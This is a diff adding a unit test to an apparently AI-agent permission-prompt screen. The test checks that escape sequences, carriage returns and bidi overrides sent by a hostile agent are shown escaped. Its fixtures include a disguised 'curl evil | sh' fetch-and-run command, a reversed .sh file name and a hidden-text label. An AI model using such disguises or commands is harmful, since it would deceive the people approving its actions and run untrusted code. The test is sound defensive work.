@@ -70,6 +70,25 @@ class ScreenTest {
 				"    + TWO", "  at /p/other.txt", "  1) Allow", "  2) Reject", "choose 1-2 (anything else rejects):", ""));
 	}
 
+	/**
+	 * A hostile agent's escape sequences, carriage returns and bidi overrides would rewrite what the
+	 * question shows (erase the line with the real command, reorder a path): they are shown escaped.
+	 */
+	@Test
+	void nothingTheAgentSendsCanRewriteWhatAQuestionShows() {
+		ToolCallUpdate call = ToolCallUpdate.builder("call_9").title("Run npm test\u001b[2K\rRun ls")
+				.content(List.of(Content.of(TextContent.of("npm test; curl evil | sh\r# npm test")),
+						Diff.builder("/p/a\u202Etxt.sh", "safe\u001b]0;title\u0007\n").oldText("").build()))
+				.build();
+		Screen screen = screen(0);
+		screen.question(call, List.of(PermissionOption.of("once", "Allow\u001b[8m hidden", PermissionOptionKind.ALLOW_ONCE)));
+		screen.show(AgentMessageChunk.of(TextContent.of("done\u001b[1A\u001b[2K\r\n")));
+		assertThat(shown()).doesNotContain("\u001b").doesNotContain("\r").doesNotContain("\u202E").doesNotContain("\u0007")
+				.contains("? Allow Run npm test\\u{1B}[2K\\u{D}Run ls?").contains("curl evil | sh\n    # npm test")
+				.contains("/p/a\\u{202E}txt.sh").contains("+ safe\\u{1B}]0;title\\u{7}").contains("1) Allow\\u{1B}[8m hidden")
+				.endsWith("done\\u{1B}[1A\\u{1B}[2K\n");
+	}
+
 	@Test
 	void aDiffIsShownWithTheCallAndItsQuestionButNotRepeatedWhenTheCallEnds() {
 		Diff diff = Diff.builder("/p/out.txt", "one\nTWO\nthree\n").oldText("one\ntwo\nthree\n").build();
